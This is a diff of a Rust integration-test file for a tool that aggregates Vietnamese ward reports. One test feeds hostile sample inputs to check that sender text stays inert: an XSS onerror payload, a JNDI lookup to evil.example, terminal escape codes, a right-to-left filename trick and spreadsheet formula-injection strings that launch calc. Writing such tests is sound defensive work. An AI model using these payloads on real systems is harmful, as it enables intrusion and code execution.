@@ -2,17 +2,19 @@
 
 #![allow(clippy::unwrap_used)]
 
+mod home;
+
 use std::collections::BTreeMap;
 use std::fs::{self, File};
 use std::io::{Cursor, Read};
 use std::path::{Path, PathBuf};
-use std::process::{Command, Output, Stdio};
+use std::process::{Command, Output};
 use std::time::{Duration, SystemTime};
 
+use home::{office, tonghop};
 use serde_json::Value;
 use tempfile::TempDir;
 
-const PROGRAMME: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/inputs/chuong-trinh/Chuong-trinh-hanh-dong.docx");
 const HEAD: &str = "ĐẢNG ỦY PHƯỜNG KIẾN AN\nỦY BAN NHÂN DÂN PHƯỜNG KIẾN AN\n\nKiến An, ngày 20 tháng 3 năm 2026\n\n\
                     BÁO CÁO\nKết quả thực hiện nhiệm vụ quý I năm 2026\n\n";
 
@@ -20,20 +22,8 @@ fn report(share: &str) -> String {
     format!("{HEAD}- Tỷ lệ dân số tham gia bảo hiểm y tế đạt {share}%.\n")
 }
 
-fn office(reports: &[(&str, &str)]) -> TempDir {
-    let home = tempfile::tempdir().unwrap();
-    fs::create_dir_all(home.path().join("inputs/chuong-trinh")).unwrap();
-    fs::create_dir_all(home.path().join("inputs/bao-cao")).unwrap();
-    fs::copy(PROGRAMME, home.path().join("inputs/chuong-trinh/ct.docx")).unwrap();
-    for (name, text) in reports {
-        fs::write(home.path().join("inputs/bao-cao").join(name), text).unwrap();
-    }
-    home
-}
-
 fn run(home: &TempDir) -> Output {
-    let mut command = Command::new(env!("CARGO_BIN_EXE_tonghop"));
-    command.arg("run").current_dir(home.path()).stdin(Stdio::null()).output().unwrap()
+    tonghop(home.path(), &["run"])
 }
 
 fn result(home: &TempDir) -> Value {
@@ -172,7 +162,7 @@ fn text_of_a_sender_stays_text_in_every_output() {
          \u{1b}]0;evil\u{7} \u{202e}gnp.exe ]]> &lt;img src=x onerror=alert(1)&gt; ${{jndi:ldap://evil.example}}.\n\
          - +cmd|' /C calc'!A0: số hộ nghèo giảm còn 12 hộ.\n"
     );
-    let home = office(&[("=cmd|calc'!A0 <b>x&y.txt", &hostile), ("@SUM(1+1).txt", "không phải báo cáo")]);
+    let home = office(&[("=cmd|calc'!A0 <b>x&y.txt", hostile.as_str()), ("@SUM(1+1).txt", "không phải báo cáo")]);
     let output = run(&home);
     assert_ne!(output.status.code(), Some(2), "{}", String::from_utf8_lossy(&output.stderr));
     let mut seen = 0;
